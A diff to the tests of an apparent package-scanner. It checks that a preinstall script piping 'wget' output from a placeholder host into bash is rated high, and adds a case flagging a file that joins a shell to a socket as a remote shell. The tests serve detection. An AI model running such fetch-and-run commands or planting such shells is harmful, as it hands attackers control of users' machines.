@@ -238,3 +238,21 @@ def test_a_script_that_pipes_a_download_into_a_shell_is_high_but_inline_node_is_
     assert judge("pkg", "1.0.0", "1.0.1", PLAIN, inline).reasons[0].rule == "install-script"
     piped = profile({"index.js": []}, scripts={"preinstall": "wget -qO- https://x.example | bash"})
     assert judge("pkg", "1.0.0", "1.0.1", PLAIN, piped).severity is Severity.HIGH
+
+
+def test_a_shell_wired_to_a_socket_is_a_remote_shell_even_in_a_new_package() -> None:
+    backdoor = profile(
+        {
+            "index.js": [],
+            "lib/update-check.js": [(C.PROCESS_SPAWN, 8, "shell:sh"), (C.NETWORK, 4, "net")],
+        },
+        {"lib/update-check.js": Zone.ENTRY},
+    )
+    verdict = judge("taskweave-cli", None, "1.0.0", None, backdoor)
+    assert verdict.severity is Severity.HIGH
+    assert verdict.reasons[0].rule == "remote-shell"
+    # A shell and HTTP in one file, or a shell and a socket in different files, are not that.
+    apart = profile(
+        {"index.js": [(C.PROCESS_SPAWN, 8, "shell:sh")], "lib/x.js": [(C.NETWORK, 4, "net")]}
+    )
+    assert judge("tool", None, "1.0.0", None, apart).severity is Severity.INFO
